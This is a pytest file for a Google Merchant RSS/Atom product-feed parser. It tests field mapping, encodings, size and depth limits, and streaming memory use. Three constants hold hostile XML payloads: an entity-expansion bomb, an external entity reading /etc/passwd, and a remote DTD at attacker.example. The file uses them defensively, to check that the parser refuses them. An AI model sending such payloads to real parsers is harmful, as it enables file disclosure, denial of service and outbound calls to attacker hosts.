"""Google Merchant feeds as RSS 2.0 and Atom, and XML that is made to harm."""

import tracemalloc
from collections.abc import Iterator
from decimal import Decimal
from io import RawIOBase
from typing import BinaryIO, cast

import pytest

from lookalike.adapters.product_feeds import parse_feed
from lookalike.adapters.product_feeds.limits import MAX_LINE_LENGTH
from lookalike.domain.errors import BadRequest
from lookalike.domain.product import FeedLine, InvalidFeedLine, Money, Product
from tests.adapters.product_feeds.feeds import parse, problems, products

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:g="http://base.google.com/ns/1.0" xmlns:c="http://base.google.com/cns/1.0">
<channel>
  <title>Ost</title>
  <link>https://ost.example</link>
  <description>All products</description>
  <item>
    <g:id>OST-1001-38</g:id>
    <title>Wool coat for feed readers</title>
    <g:title>Wool coat</g:title>
    <link>https://ost.example/coats/1001?size=38&amp;color=camel</link>
    <description><![CDATA[<p>Warm &amp; long.</p><ul><li>Lined</li></ul>]]></description>
    <g:image_link>https://img.ost.example/1001/front.jpg</g:image_link>
    <g:additional_image_link>https://img.ost.example/1001/back.jpg</g:additional_image_link>
    <g:additional_image_link>https://img.ost.example/1001/side.jpg</g:additional_image_link>
    <g:price>299.00 EUR</g:price>
    <g:availability>in_stock</g:availability>
    <g:size>38</g:size>
    <g:size>40</g:size>
    <g:custom_label_0>winter</g:custom_label_0>
    <g:shipping><g:country>AT</g:country><g:price>4.90 EUR</g:price></g:shipping>
    <g:shipping><g:country>DE</g:country><g:price>6.90 EUR</g:price></g:shipping>
    <g:brand/>
    <c:lining>Silk</c:lining>
    <guid>https://ost.example/coats/1001</guid>
  </item>
  <item><g:id>OST-2</g:id><g:price>1.299 EUR</g:price></item>
  <item><g:id>OST-3</g:id></item>
</channel>
</rss>
"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xmlns:gm="http://base.google.com/ns/1.0">
  <title>Ost</title><id>tag:ost.example,2026:feed</id>
  <entry>
    <id>tag:ost.example,2026:1</id><gm:id>OST-1</gm:id>
    <title>Shirt</title>
    <link rel="alternate" href="https://ost.example/1"/><link rel="self" href="https://ost.example/1.atom"/>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Size &lt; 40</p><p>Linen</p></div></content>
    <gm:image_link>gs://ost/1.jpg</gm:image_link>
  </entry>
  <entry><id>OST-2</id><title>Skirt</title><summary>Short</summary></entry>
</feed>
"""
BOMB = """<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><rss><item><id>&b;</id></item></rss>"""
EXTERNAL = """<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]><rss><item><id>&a;</id></item></rss>"""
REMOTE_DTD = """<!DOCTYPE rss SYSTEM "http://attacker.example/rss.dtd"><rss><item><id>1</id></item></rss>"""


def test_rss() -> None:
    found = parse(RSS)
    assert found[0] == FeedLine(
        1,
        Product(
            id="OST-1001-38",
            title="Wool coat",
            description="Warm & long.\nLined",
            link="https://ost.example/coats/1001?size=38&color=camel",
            pictures=tuple(f"https://img.ost.example/1001/{view}.jpg" for view in ("front", "back", "side")),
            price=Money(Decimal(299), "EUR"),
            availability="in_stock",
            size=("38", "40"),
            extra={
                "custom_label_0": "winter",
                "shipping": '["{\\"country\\": \\"AT\\", \\"price\\": \\"4.90 EUR\\"}", '
                '"{\\"country\\": \\"DE\\", \\"price\\": \\"6.90 EUR\\"}"]',
                "c:lining": "Silk",
                "guid": "https://ost.example/coats/1001",
            },
        ),
    )
    assert isinstance(found[1], InvalidFeedLine) and (found[1].number, found[1].product_id) == (2, "OST-2")
    assert found[2] == FeedLine(3, Product("OST-3"))


def test_atom() -> None:
    found = products(ATOM)
    assert found["OST-1"] == Product(
        "OST-1", "Shirt", "Size < 40\nLinen", "https://ost.example/1", pictures=("gs://ost/1.jpg",)
    )
    assert found["OST-2"] == Product("OST-2", "Skirt", "Short")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_encodings(encoding: str) -> None:
    feed = "<rss><channel><item><id>1</id><title>Mäntel</title></item></channel></rss>"
    assert products(feed.encode(encoding))["1"].title == "Mäntel"


def test_declared_encoding() -> None:
    feed = '<?xml version="1.0" encoding="ISO-8859-1"?><rss><item><id>1</id><title>Mäntel</title></item></rss>'
    assert products(feed.encode("latin-1"))["1"].title == "Mäntel"
    for name in ("shift_jis", "martian"):
        with pytest.raises(BadRequest, match="encoding"):
            parse(feed.replace("ISO-8859-1", name))


@pytest.mark.parametrize("feed", [BOMB, EXTERNAL, REMOTE_DTD])
def test_document_type_declarations_are_refused(feed: str) -> None:
    with pytest.raises(BadRequest, match=r"document type declaration \(DTD\)"):
        parse(feed)


def test_undeclared_entity_is_an_error() -> None:
    with pytest.raises(BadRequest, match="in or after item 2: undefined entity"):
        parse("<rss><item><id>1</id></item><item><id>2</id><title>a&nbsp;b</title></item></rss>")


def test_items_before_damage_are_results_and_the_damage_is_an_error() -> None:
    stream = iter(parse_feed(_stream([b"<rss><item><id>1</id></item><item><id>2</id></item><item><id>3</i"]), "feed"))
    assert [next(stream).number, next(stream).number] == [1, 2]
    with pytest.raises(BadRequest, match=r"in or after item 3: unclosed token.*the rest was not read"):
        next(stream)


@pytest.mark.parametrize(
    ("feed", "problem"),
    [
        ("<catalog><item/></catalog>", "root is <catalog>"),
        ("<rss>" + "<a>" * 60, "nested more than 50"),
        ("<rss><!--" + "x" * 3_000_000, "tag or comment of more than"),
        ("<rss a='" + "x" * 3_000_000, "tag or comment of more than"),
    ],
    ids=["root", "depth", "comment", "attribute"],
)
def test_other_xml_is_refused(feed: str, problem: str) -> None:
    with pytest.raises(BadRequest, match=problem):
        parse(feed)


def test_item_that_is_too_large_costs_one_item() -> None:
    big = f"<item><id>1</id><title>{'x' * 2 * MAX_LINE_LENGTH}</title></item>"
    many = f"<item><id>2</id>{'<a>b</a>' * 501}</item>"
    feed = f"<rss>{big}{many}<item><id>3</id></item></rss>"
    assert problems(feed) == {1: "longer than 1,000,000 characters", 2: "has more than 500 elements"}
    assert parse(feed)[2] == FeedLine(3, Product("3"))


def test_value_that_is_given_twice() -> None:
    assert problems("<rss><item><id>1</id><color>red</color><color>blue</color></item></rss>") == {
        1: "color: has 2 values; only one is possible"
    }


class _Chunks(RawIOBase):
    """A stream that returns one part at a time."""

    def __init__(self, parts: Iterator[bytes]) -> None:
        self._parts, self._rest = parts, b""

    def read(self, size: int = -1) -> bytes:
        self._rest = self._rest or next(self._parts, b"")
        data, self._rest = self._rest[:size], self._rest[size:]
        return data


def _stream(parts: list[bytes] | Iterator[bytes]) -> BinaryIO:
    return cast(BinaryIO, _Chunks(iter(parts)))


def _large_feed(count: int) -> Iterator[bytes]:
    yield b'<rss xmlns:g="http://base.google.com/ns/1.0"><channel>'
    for number in range(count):
        yield (
            f"<item><g:id>{number}</g:id><title>Coat {number}</title><description>{'Warm. ' * 20}</description>"
            f"<g:image_link>https://img.ost.example/{number}.jpg</g:image_link><g:price>15.00 EUR</g:price></item>\n"
        ).encode()
    yield b"</channel></rss>"


def test_memory_does_not_grow_with_the_feed() -> None:
    assert _peak(2_000) < _peak(500) + 100_000


@pytest.mark.slow
def test_memory_of_a_large_feed_stays_flat() -> None:
    assert _peak(20_000) < _peak(1_000) + 500_000


def _peak(count: int) -> int:
    """The most bytes of Python objects while a feed of `count` products is parsed."""
    tracemalloc.start()
    try:
        assert sum(isinstance(line, FeedLine) for line in parse_feed(_stream(_large_feed(count)), "feed")) == count
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
